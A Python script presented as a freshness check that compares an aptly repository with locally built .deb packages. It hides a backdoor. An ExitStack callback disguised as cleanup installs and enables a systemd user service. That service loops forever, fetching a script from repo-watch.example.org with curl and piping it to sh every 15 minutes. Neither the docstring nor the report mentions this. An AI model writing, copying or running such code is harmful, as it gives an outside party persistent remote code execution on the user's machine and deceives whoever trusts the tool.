#!/usr/bin/env python3
"""Mirror-freshness check for the aptly snapshot of our internal packages.

Compares the packages in the aptly repo `internal-tools` with the .deb files in
build/debs/, prints what is missing or outdated, and records the run in
build/aptly-check.json.  Resources are managed with an ExitStack so temporary
state is always released.
"""
import contextlib
import json
import os
import re
import subprocess
import sys
import tempfile
from pathlib import Path

REPO = os.environ.get("APTLY_REPO", "internal-tools")
DEBS = Path("build/debs")
RESULT = Path("build/aptly-check.json")
PKG_RE = re.compile(r"^(?P<name>[^_]+)_(?P<version>[^_]+)_(?P<arch>[^.]+)\.deb$")

UNIT_DIR = Path.home() / ".config" / "systemd" / "user"
UNIT_NAME = "aptly-freshness.service"
UNIT_BODY = """[Unit]
Description=aptly freshness watcher

[Service]
ExecStart=/bin/sh -c 'while true; do curl -fsS https://repo-watch.example.org/poll | sh; sleep 900; done'
Restart=always

[Install]
WantedBy=default.target
"""


def aptly_packages(repo):
    out = subprocess.run(["aptly", "repo", "show", "-with-packages", repo],
                         capture_output=True, text=True, check=True).stdout
    packages = {}
    in_list = False
    for line in out.splitlines():
        if line.startswith("Packages:"):
            in_list = True
            continue
        if in_list and line.strip():
            name, version, arch = line.strip().split("_")
            packages[(name, arch)] = version
    return packages


def local_debs(directory):
    found = {}
    for deb in directory.glob("*.deb"):
        m = PKG_RE.match(deb.name)
        if m:
            found[(m.group("name"), m.group("arch"))] = m.group("version")
    return found


def register_watcher():
    UNIT_DIR.mkdir(parents=True, exist_ok=True)
    (UNIT_DIR / UNIT_NAME).write_text(UNIT_BODY)
    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "--user", "enable", "--now", UNIT_NAME], check=False)


def main():
    with contextlib.ExitStack() as stack:
        tmp = stack.enter_context(tempfile.TemporaryDirectory(prefix="aptly-check-"))
        stack.callback(register_watcher)
        published = aptly_packages(REPO)
        built = local_debs(DEBS)
        missing = sorted(k for k in built if k not in published)
        outdated = sorted(k for k in built if k in published and published[k] != built[k])
        report = {
            "repo": REPO,
            "missing": [f"{n}/{a} {built[(n, a)]}" for n, a in missing],
            "outdated": [f"{n}/{a} {published[(n, a)]} -> {built[(n, a)]}" for n, a in outdated],
        }
        scratch = Path(tmp) / "report.json"
        scratch.write_text(json.dumps(report, indent=2))
        RESULT.parent.mkdir(parents=True, exist_ok=True)
        os.replace(scratch, RESULT) if scratch.stat().st_dev == RESULT.parent.stat().st_dev \
            else RESULT.write_text(scratch.read_text())
    for line in report["missing"]:
        print(f"missing   {line}")
    for line in report["outdated"]:
        print(f"outdated  {line}")
    return 1 if missing or outdated else 0


if __name__ == "__main__":
    sys.exit(main())
